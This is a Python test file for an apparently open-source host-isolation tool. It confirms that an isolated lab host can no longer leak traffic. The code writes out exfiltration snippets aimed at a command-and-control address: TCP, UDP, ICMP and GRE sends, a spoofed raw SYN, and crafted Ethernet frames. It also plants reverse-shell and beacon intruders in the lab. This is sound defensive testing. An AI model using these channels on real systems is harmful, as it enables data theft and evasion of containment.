# Copyright: (c) 2026, Firebreak contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The leak matrix: channels out of an isolated host, listened for on the internet's own wire.

`./dev matrix leaks` runs it; each case is tried before the isolation too, so that a channel which never worked proves nothing.
"""

from __future__ import annotations

import subprocess
import sys

import pytest

from tests.lab import hosts, intruders, network
from tests.lab.controller import adhoc
from tests.lab.machine import inside

from . import matrix
from .conftest import clean

# Counts packets with one of the given source addresses that arrive at the internet's interface, for some seconds.
LISTEN = """
import ipaddress, socket, sys, time
wanted = {ipaddress.ip_address(text).packed for text in sys.argv[2:]}
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3)); s.settimeout(0.1)
end, count = time.monotonic() + float(sys.argv[1]), 0
print("ready", flush=True)
while time.monotonic() < end:
    try: data = s.recv(2048)
    except TimeoutError: continue
    source = data[12:16] if data[0] >> 4 == 4 else data[8:24]
    neighbour = data[0] >> 4 == 6 and data[6] == 58 and 133 <= data[40] <= 137
    count += source in wanted and not neighbour
print(count)
"""
TCP = "import socket; s=socket.socket(socket.{family}); s.settimeout(0.5); s.connect(('{peer}', {port}))"
UDP = "import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM).sendto(b'x', ('{peer}', {port}))"
RAW = "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, {number}).sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00stolen', ('{peer}', 0))"
RAW_SYN = """
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
s.sendto(struct.pack('!HHIIBBHHH', 22, 443, 1, 0, 0x50, 2, 1024, 0, 0), ('{peer}', 0))
"""
CHANNELS = {
    "tcp-ipv4": TCP.format(family="AF_INET", peer=network.C2, port=8443),
    "tcp-ipv6": TCP.format(family="AF_INET6", peer=network.C2_6, port=8443),
    "udp-ipv4": UDP.format(family="AF_INET", peer=network.C2, port=8443),
    "udp-ipv6": UDP.format(family="AF_INET6", peer=network.C2_6, port=8443),
    "udp-53": UDP.format(family="AF_INET", peer=network.C2, port=53),
    "icmp-with-payload": RAW.format(number=1, peer=network.C2),
    "gre": RAW.format(number=47, peer=network.C2),
    # A first packet that looks like an answer of the responder's way in.
    "source-port-22": RAW_SYN.format(peer=network.C2),
    # What was there before the isolation and goes on by itself.
    "live-tcp": "", "live-udp": "", "live-ipv6": "",
}
# Frames that a packet socket puts on the wire by itself: head of the frame, packet in it, protocol told to the kernel.
FRAME = """
import socket, struct
def ip(to): return struct.pack('!BBHHHBBH4s4s', 69, 0, 36, 1, 0, 64, 17, 0, socket.inet_aton('{own}'), socket.inet_aton(to))
def ip6(to): return struct.pack('!IHBB16s16s', 6 << 28, 16, 17, 64, socket.inet_pton(10, '{own6}'), socket.inet_pton(10, to))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('{device}', {told}))
{more}
s.send(bytes.fromhex('ffffffffffff026600000099' + '{kind}') + {packet} + b'stolen-from-here')
"""
MACVLAN = """
import subprocess, time
def ip(*words): subprocess.run(['ip', *words], check=True)
other = subprocess.Popen(['unshare', '--net', 'sleep', '20']); time.sleep(0.2)
ip('link', 'add', 'mv0', 'link', 'host0', 'type', 'macvlan', 'mode', 'bridge'); ip('link', 'set', 'mv0', 'netns', str(other.pid))
inside = ['nsenter', '--net', '-t', str(other.pid), 'sh', '-c']
subprocess.run([*inside, 'ip link set mv0 up; sleep 0.1; exec python3 -c "$1"', 'sh', FRAME], check=True); other.kill()
"""
FRAMES = {
    "packet-socket-ipv4": {"kind": "0800", "packet": f"ip('{network.C2}')"},
    "packet-socket-ipv6": {"kind": "86dd", "packet": f"ip6('{network.C2_6}')"},
    "packet-socket-past-the-queue": {"kind": "0800", "packet": f"ip('{network.C2}')", "more": "s.setsockopt(263, 20, 1)"},
    "odd-ethertype": {"kind": "88b5", "packet": "b''"},
    "vlan-tag": {"kind": "810000070800", "packet": f"ip('{network.C2}')"},
    # The kernel is told that this is IP, and the packet would go to an allowed system: the frame itself says otherwise.
    "ethertype-not-as-told": {"kind": "88b5", "packet": f"ip('{network.MONITORING}')", "told": "0x0800"},
    "macvlan-in-another-namespace": {"kind": "0800", "packet": f"ip('{network.C2}')", "device": "mv0"},
}
WIRE = """
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind((sys.argv[2], 0x0003)); s.settimeout(0.1)
end, count = time.monotonic() + float(sys.argv[1]), 0
print("ready", flush=True)
while time.monotonic() < end:
    try: data, source = s.recvfrom(4096)
    except TimeoutError: continue
    count += b"stolen-from-here" in data and source[2] != 4
print(count)
"""
LIVE = {"live-tcp": "reverse-shell", "live-udp": "beacon-udp", "live-ipv6": "beacon-ipv6"}


def framed(host: str, name: str) -> int:
    """How many frames of one kind come out of the host's wire."""
    values = {"device": "host0", "told": "3", "more": "", "own": network.address(host), "own6": network.address6(host), **FRAMES[name]}
    code = FRAME.format(**values)
    if values["device"] == "mv0":
        code = MACVLAN.replace("FRAME", repr(code))
    listener = subprocess.Popen(inside("wire", [sys.executable, "-c", WIRE, "1.5" if values["device"] == "mv0" else "0.6", f"p-{host}"]),
                                stdout=subprocess.PIPE, text=True)
    with listener:
        assert listener.stdout is not None and listener.stdout.readline() == "ready\n"
        hosts.execute(host, ["python3", "-c", code], check=False)
        return int(listener.stdout.readline())


def heard(host: str, name: str) -> int:
    """How many packets of the host reach the internet while it tries a channel."""
    listener = subprocess.Popen(inside("internet", [sys.executable, "-c", LISTEN, "1.0", network.address(host), network.address6(host)]),
                                stdout=subprocess.PIPE, text=True)
    with listener:
        assert listener.stdout is not None and listener.stdout.readline() == "ready\n"
        hosts.execute(host, ["python3", "-c", CHANNELS[name]], check=False)
        return int(listener.stdout.readline())


@pytest.fixture(params=matrix.cells(), ids="-".join)
def cell(request, lab):
    """(release, backend), with the intruders whose live traffic is to be cut."""
    host = request.param[0]
    clean(host)
    yield request.param
    clean(host)


def test_nothing_leaks(cell):
    host, backend = cell
    quiet = [name for name in CHANNELS if name not in LIVE]
    before = {name: heard(host, name) for name in quiet} | {name: framed(host, name) for name in FRAMES}
    for name, intruder in LIVE.items():
        intruders.plant(host, intruder)
        before[name] = heard(host, name)
        intruders.unplant(host, intruder)  # each channel must be heard alone
    assert all(before.values()), f"a channel is shut before the isolation: {before}"
    for intruder in LIVE.values():
        intruders.plant(host, intruder)
    result = adhoc(host, "isolation", f"case=LEAKS backend={backend}").of(host)
    assert result["verdict"] == "contained"
    # Where nft knows no egress hook, the result says that frames are not held back.
    said = any("packet sockets" in line for line in result["not_covered"])
    assert said is (host == "deb11")
    rows = []
    try:
        for name in CHANNELS:
            count = heard(host, name)
            rows.append({"case": name, "release": host, "backend": backend, "expected": 0, "got": count, "holds": count == 0})
        for name in FRAMES:
            count = framed(host, name)
            rows.append({"case": name, "release": host, "backend": backend, "expected": "0, or said",
                         "got": f"{count}, said" if count and said else count, "holds": count == 0 or said})
    finally:
        released = adhoc(host, "isolation", "case=LEAKS state=released").of(host)
    matrix.write("leaks", rows)
    assert released["verdict"] == "released", released["reasons"]
    assert [row for row in rows if not row["holds"]] == []
